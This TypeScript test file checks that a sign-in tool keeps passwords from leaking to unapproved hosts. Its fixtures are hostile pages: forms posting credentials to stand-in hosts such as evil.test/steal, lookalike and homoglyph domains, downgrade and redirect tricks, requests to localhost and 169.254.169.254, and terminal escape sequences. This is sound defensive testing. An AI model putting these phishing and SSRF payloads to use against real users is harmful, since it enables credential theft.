/**
 * The walk among hosts that are after the password: real names over real TLS, all of them on this machine by way of a
 * proxy. Whatever a page says, nothing secret leaves for a host that the person has not agreed to.
 */
import { afterAll, beforeAll, beforeEach, describe, expect, test } from 'bun:test'
import { once } from 'node:events'
import { createServer } from 'node:https'
import { isFailure, type Failure } from '../src/errors.ts'
import { formLogin } from '../src/form-login.ts'
import { passwordOf, type FormRecipe } from '../src/form-walk.ts'
import type { HttpRequest } from '../src/http.ts'
import { openNetwork, type Network } from '../src/http-network.ts'
import { form } from '../src/provider-form.ts'
import { testContext, type TestContext, type TestContextOptions } from './context.ts'
import { awsAcs, page, responsePage, samlResponse } from './fake-idp.ts'
import { makePki } from './pki.ts'
import { startProxy } from './proxy.ts'

const password = 'c0rrect & "horse"/é'
const pki = makePki()
/** With an accent on the first letter. */
const lookalike = new URL('https://ídp.corp.test').hostname
const hosts = ['idp.corp.test', 'evil.test', 'idp.corp.test.evil.test', 'idp-corp.test', lookalike]

/** What came to hosts other than idp.corp.test, and what came with a body. */
let strangers: string[] = []
let bodies: string[] = []
let pages = new Map<string, Reply>()
let network: Network
let port: number
let stop: () => Promise<void>

type Reply = string | { readonly status: number; readonly headers?: Record<string, string>; readonly body?: string }

beforeAll(async () => {
  const { pair } = pki.issue(
    'world',
    hosts.map(host => `DNS:${host}`),
  )
  const server = createServer(pair, async (request, response) => {
    const chunks: string[] = []
    for await (const chunk of request) chunks.push(String(chunk))
    const host = request.headers.host?.replace(/:\d+$/, '') ?? ''
    if (host !== 'idp.corp.test') strangers.push(`${request.method} ${host}${request.url} ${chunks.join('')}`)
    if (request.method === 'POST') bodies.push(chunks.join(''))
    const found = pages.get(`${host}${request.url}`) ?? { status: 404, body: 'nothing here' }
    const { status, headers = {}, body = '' } = typeof found === 'string' ? { status: 200, body: found } : found
    response.writeHead(status, { 'content-type': 'text/html; charset=utf-8', ...headers }).end(body)
  })
  server.listen(0, '127.0.0.1')
  await once(server, 'listening')
  const address = server.address()
  port = typeof address === 'object' && address ? address.port : 0
  const proxy = await startProxy()
  network = openNetwork({ caFile: pki.ca }, { HTTPS_PROXY: proxy.origin })
  stop = async () => {
    await proxy.stop()
    server.closeAllConnections()
    server.close()
    pki.remove()
  }
})
afterAll(() => stop())
beforeEach(() => {
  strangers = []
  bodies = []
  pages = new Map()
})

/** `@` in a page stands for the port that all hosts share. */
const put = (path: string, reply: Reply): void =>
  void pages.set(path, typeof reply === 'string' ? reply.replaceAll('@@', String(port)) : reply)

async function go(options: TestContextOptions = {}): Promise<{ made: TestContext; outcome: unknown }> {
  const settings = { url: `https://idp.corp.test:${port}/start`, ...options.settings }
  const made = await testContext({ password, username: 'jane', network, ...options, settings })
  return { made, outcome: await form.authenticate(made.context).catch((error: unknown) => error) }
}

function failureIn(outcome: unknown): Failure {
  if (isFailure(outcome)) return outcome
  throw outcome instanceof Error ? outcome : new Error(`no failure: ${JSON.stringify(outcome)}`)
}

const fields = '<input name="user"><input type="password" name="pass">'
const login = (attributes: string, button = '<button>Sign in</button>', head = ''): string =>
  page('Sign in', `${head}<form method="post" ${attributes}>${fields}${button}</form>`)

describe('a log-in page that would send the password elsewhere asks for leave first, by the name of the host', () => {
  const tricks: [name: string, html: string, host: string][] = [
    ['another host', login('action="https://evil.test:@@/login"'), 'evil.test:@@'],
    ['a longer name', login('action="https://idp.corp.test.evil.test:@@/login"'), 'idp.corp.test.evil.test:@@'],
    ['a name that looks alike', login('action="https://idp-corp.test:@@/login"'), 'idp-corp.test:@@'],
    ['letters that look alike', login('action="https://ídp.corp.test:@@/login"'), `${lookalike}:@@`],
    [
      'a user name that looks like the host',
      login('action="https://idp.corp.test@evil.test:@@/login"'),
      'evil.test:@@',
    ],
    ['another port', login('action="https://idp.corp.test:8443/login"'), 'idp.corp.test:8443'],
    ['no scheme', login('action="//evil.test:@@/login"'), 'evil.test:@@'],
    ['backslashes', login(String.raw`action="\\evil.test:@@\login"`), 'evil.test:@@'],
    ['line ends and blanks', login('action=" ht\ntps://evil.t\test:@@/login "'), 'evil.test:@@'],
    ['a base', login('action="/login"', undefined, '<base href="https://evil.test:@@/">'), 'evil.test:@@'],
    [
      'a button',
      login('action="/login"', '<button formaction="https://evil.test:@@/login">Sign in</button>'),
      'evil.test:@@',
    ],
    [
      'an image',
      login('action="/login"', '<input type="submit" value="Sign in" formaction="https://evil.test:@@/">'),
      'evil.test:@@',
    ],
    ['a trailing dot', login('action="https://idp.corp.test.:@@/login"'), 'idp.corp.test.:@@'],
  ]
  for (const [name, html, host] of tricks) {
    test(`C12 ${name}`, async () => {
      put('idp.corp.test/start', html)
      const foreign = host.replace('@@', String(port))
      const question = `idp.corp.test:${port} sends the sign-in on to ${foreign}. Enter your password or code there?`
      const { made, outcome } = await go({ answers: [[question, false]] })
      expect(failureIn(outcome).code).toBe('foreign-host')
      expect([made.asked, made.passwords(), bodies, strangers]).toEqual([[question], 0, [], []])
      const background = await go({ mode: 'refresh' })
      expect(failureIn(background.outcome)).toMatchObject({ kind: 'person', code: 'foreign-host' })
      expect([background.made.passwords(), strangers]).toEqual([0, []])
    })
  }

  test('C12 an open redirect leads to a page that seems to come home, but whose button does not', async () => {
    put('idp.corp.test/start', { status: 302, headers: { location: `https://evil.test:${port}/login` } })
    put(
      'evil.test/login',
      login(
        'action="https://idp.corp.test:@@/login"',
        '<button formaction="https://evil.test:@@/steal">Sign in</button>',
      ),
    )
    const { made, outcome } = await go({ answers: [[`evil.test:${port}`, false]] })
    expect(failureIn(outcome).code).toBe('foreign-host')
    expect([made.passwords(), bodies]).toEqual([0, []])
  })

  test('the same for a user name alone and for a code', async () => {
    put(
      'idp.corp.test/start',
      page(
        'Sign in',
        '<form method="post" action="https://evil.test:@@/"><input name="username"><button>Next</button></form>',
      ),
    )
    expect(failureIn((await go({ answers: [['evil.test', false]] })).outcome).code).toBe('foreign-host')
    put('idp.corp.test/start', login('action="/login"'))
    put(
      'idp.corp.test/login',
      page(
        'Code',
        '<form method="post" action="/code"><input name="otp"><button formaction="https://evil.test:@@/">Verify</button></form>',
      ),
    )
    expect(failureIn((await go({ answers: [['evil.test', false]] })).outcome).code).toBe('foreign-host')
    expect(strangers).toEqual([])
  })

  test('one host that was approved says nothing about the next', async () => {
    put('idp.corp.test/start', login('action="https://idp-corp.test:@@/login"'))
    put('idp-corp.test/login', login('action="https://evil.test:@@/login"'))
    const { made, outcome } = await go({
      answers: [
        ['idp-corp.test', true],
        ['evil.test', false],
      ],
    })
    expect(failureIn(outcome).code).toMatch(/foreign-host|password-refused/)
    expect(made.passwords()).toBe(1)
    expect(strangers).toHaveLength(1)
  })
})

describe('a downgrade', () => {
  const insecure: [name: string, html: string][] = [
    ['the form', login('action="http://idp.corp.test/login"')],
    ['the button', login('action="/login"', '<button formaction="http://idp.corp.test/login">Sign in</button>')],
    ['the base', login('action="login"', undefined, '<base href="http://idp.corp.test/">')],
    ['the method of the button', login('action="/login"', '<button formmethod="get">Sign in</button>')],
    ['the method of the form', login('action="/login"').replace('method="post"', 'method="get"')],
    ['an assertion for another', responsePage(samlResponse('http://sp.corp.test/acs'), 'http://sp.corp.test/acs')],
    ['a hop', page('x', '<script>location.href = "http://idp.corp.test/next"</script>')],
    [
      'a refresh',
      page('x', '<p>moved</p>').replace(
        '<head>',
        '<head><meta http-equiv="refresh" content="0;url=http://idp.corp.test/next">',
      ),
    ],
    [
      'a consent',
      page(
        'Terms of use',
        '<form method="post" action="http://idp.corp.test/terms"><p>Do you accept the terms of use?</p><input type="hidden" name="csrf" value="x"><button name="accept">Accept</button><button name="decline">Decline</button></form>',
      ),
    ],
  ]
  for (const [name, html] of insecure) {
    test(`${name} sends nothing`, async () => {
      put('idp.corp.test/start', html)
      const { made, outcome } = await go({ settings: { consent: 'accept' } })
      expect(failureIn(outcome).code).toBe('insecure')
      expect([made.passwords(), bodies]).toEqual([0, []])
    })
  }

  test('C11 a redirect', async () => {
    put('idp.corp.test/start', { status: 302, headers: { location: 'http://idp.corp.test/login' } })
    expect(failureIn((await go()).outcome)).toMatchObject({ kind: 'network', code: 'insecure' })
  })
})

describe('the answer to a password', () => {
  for (const status of [307, 308]) {
    test(`C13 ${status} to another host does not take it along`, async () => {
      put('idp.corp.test/start', login('action="/login"'))
      put('idp.corp.test/login', { status, headers: { location: `https://evil.test:${port}/login` } })
      expect(failureIn((await go()).outcome)).toMatchObject({ kind: 'network', code: 'redirect' })
      expect([bodies.length, strangers]).toEqual([1, []])
    })
  }

  test('C13 302 goes on without it, and the next log-in page is a matter of leave', async () => {
    put('idp.corp.test/start', login('action="/login"'))
    put('idp.corp.test/login', { status: 302, headers: { location: `https://evil.test:${port}/again` } })
    put('evil.test/again', login('action="/steal"'))
    const { outcome } = await go({ answers: [[`evil.test:${port}`, false]] })
    expect(failureIn(outcome).code).toBe('foreign-host')
    expect(strangers).toEqual(['GET evil.test/again '])
  })
})

describe('this machine', () => {
  const inward: [name: string, html: string][] = [
    [
      'a form',
      page(
        'x',
        '<form method="post" action="http://127.0.0.1:9/stop"><input type="hidden" name="SAMLRequest" value="x"></form>',
        'onload="document.forms[0].submit()"',
      ),
    ],
    ['a script', page('x', '<script>location.href = "http://localhost:9/stop"</script>')],
    ['a name for it', page('x', '<script>location.href = "https://0.0.0.0:9/stop"</script>')],
    ['its metadata', page('x', '<script>location.href = "https://169.254.169.254/latest"</script>')],
    ['an assertion', responsePage(samlResponse('https://[::1]:9/acs'), 'https://[::1]:9/acs')],
  ]
  for (const [name, html] of inward) {
    test(`is not spoken to because a page says so: ${name}`, async () => {
      put('idp.corp.test/start', html)
      expect(failureIn((await go()).outcome)).toMatchObject({
        code: 'insecure',
        message: expect.stringContaining('this machine'),
      })
    })
  }

  test('nor because of a redirect', async () => {
    put('idp.corp.test/start', { status: 302, headers: { location: 'https://localhost:9/stop' } })
    expect(failureIn((await go()).outcome)).toMatchObject({
      code: 'redirect',
      message: expect.stringContaining('this machine'),
    })
  })
})

test('a response that is for AWS is taken, and goes nowhere else, whatever the page says', async () => {
  for (const action of [
    'https://evil.test:@@/saml',
    'https://signin.aws.amazon.com.evil.test/saml',
    'http://evil.test/',
  ]) {
    put('idp.corp.test/start', responsePage(samlResponse(awsAcs), action))
    expect((await go()).outcome).toEqual({ kind: 'saml', response: samlResponse(awsAcs) })
  }
  expect([strangers, bodies]).toEqual([[], []])
})

describe('what is shown and kept', () => {
  const echoes = [
    password,
    encodeURIComponent(password),
    encodeURIComponent(password).toLowerCase(),
    'c0rrect+%26+%22horse%22%2F%e9',
    JSON.stringify(password).slice(1, -1),
    String.raw`c0rrect \u0026 \u0022horse\u0022\/\u00E9`,
    String.raw`c0rrect \x26 \x22horse\x22/\xe9`,
    'c0rrect &amp; &quot;horse&quot;/&eacute;'.replace('&eacute;', '&#233;'),
    'c0rrect&#32;&#x26;&nbsp;&#034;horse&#x22;&#47;&#XE9;',
  ]
  for (const echo of echoes) {
    test(`no password, though the page spells it ${echo}`, async () => {
      put('idp.corp.test/start', login('action="/login"'))
      put(
        'idp.corp.test/login',
        page(
          'Strange',
          `<p>Hello ${echo}</p><script>var x = {v: "${echo}"}</script><form action="/q"><input name="q"><button>Find</button></form>`,
        ),
      )
      const { made, outcome } = await go()
      expect(failureIn(outcome).code).toBe('page-unknown')
      const shown = [failureIn(outcome).message, ...made.logged, ...made.told, ...made.files.values()].join('\n')
      expect(made.files.get('page.html')).toContain('Hello *****')
      expect(shown).not.toContain('c0rrect')
      expect(shown).not.toContain('horse')
    })
  }

  test('no password in a message, however the error page spells it', async () => {
    put('idp.corp.test/start', login('action="/login"'))
    put('idp.corp.test/login', {
      status: 500,
      body: page('Error', '<p class="error">no user for pass=c0rrect+%26+%22horse%22%2f%c3%a9</p>'),
    })
    expect(failureIn((await go()).outcome).message).toEndWith('no user for pass=*****')
  })

  test('no control characters of a page reach the terminal', async () => {
    put('idp.corp.test/start', {
      status: 403,
      body: page('No\u001B]0;pwned\u0007', '<p class="error">\u001B[2J\u202Egnp.exe &#27;[31m&#x9b;1m</p>'),
    })
    const { made, outcome } = await go()
    made.context.log.warn(`${failureIn(outcome).message} \u001B[2J`, 'a hint\u0007')
    expect([failureIn(outcome).message, ...made.logged].join('')).not.toMatch(/(?![\n\t])[\p{Cc}\u202A-\u202E]/u)
  })
})

test('a page that wants a client certificate says which option that is', async () => {
  const nginx =
    '<html><head><title>400 No required SSL certificate was sent</title></head><body><center><h1>400 Bad Request</h1></center><center>No required SSL certificate was sent</center><hr><center>nginx</center></body></html>'
  put('idp.corp.test/start', { status: 400, body: nginx })
  expect(failureIn((await go()).outcome)).toMatchObject({
    kind: 'config',
    code: 'client-certificate',
    hint: 'cloudtoken --client-cert FILE --client-key FILE',
  })
})

describe('the last gate, for steps that a recipe makes up by itself', () => {
  const leaving: [
    name: string,
    request: (secret: string) => Pick<HttpRequest, 'url' | 'body'>,
    code: string | undefined,
  ][] = [
    [
      'a form to a stranger',
      secret => ({ url: 'https://evil.test/', body: new URLSearchParams({ a: secret }).toString() }),
      'foreign-host',
    ],
    [
      'JSON to a stranger',
      secret => ({ url: 'https://evil.test/', body: JSON.stringify({ a: [secret] }) }),
      'foreign-host',
    ],
    [
      'the parts of a form to a stranger',
      secret => ({ url: 'https://evil.test/', body: new TextEncoder().encode(`--x\r\n\r\n${secret}\r\n--x--`) }),
      'foreign-host',
    ],
    [
      'an address, even at home',
      secret => ({ url: `https://idp.corp.test:${port}/?p=${encodeURIComponent(secret)}` }),
      'insecure',
    ],
    [
      'the password to Duo',
      secret => ({ url: 'https://api-1.duosecurity.com/', body: `p=${encodeURIComponent(secret)}` }),
      'foreign-host',
    ],
    [
      'a form at home',
      secret => ({ url: `https://idp.corp.test:${port}/login`, body: `p=${encodeURIComponent(secret)}` }),
      undefined,
    ],
  ]
  for (const [name, request, code] of leaving) {
    test(name, async () => {
      put('idp.corp.test/start', login('action="/login"'))
      put('idp.corp.test/login', page('Next', '<p>nothing to do</p>'))
      const made = await testContext({
        password,
        username: 'jane',
        network,
        settings: { url: `https://idp.corp.test:${port}/start` },
      })
      const entry = (): string => `https://idp.corp.test:${port}/start`
      let tried = false
      const careless: FormRecipe = {
        entry,
        async answer(walk) {
          if (tried) return undefined
          tried = true
          return await walk.context.http.request({ method: 'POST', ...request(await passwordOf(walk)) })
        },
      }
      const outcome = await formLogin(made.context, careless).catch((error: unknown) => error)
      expect(failureIn(outcome).code).toBe(code ?? 'page-unknown')
      expect(strangers).toEqual([])
    })
  }
})
